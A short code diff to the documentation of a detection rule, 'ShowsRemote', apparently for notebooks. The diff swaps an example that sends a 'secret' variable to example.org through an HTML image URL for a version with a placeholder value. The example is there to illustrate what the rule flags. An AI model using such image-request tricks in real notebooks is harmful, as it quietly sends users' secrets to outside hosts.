@@ -44,8 +44,8 @@ class ShowsRemote(Rule):
 
     ## Example
     ```python
-    from IPython.display import HTML
-    HTML("<img src='https://example.org/?d=" + secret + "'>")
+    %%html
+    <img src="https://example.org/?d=what-was-found">
     ```
 
     ## What to do instead
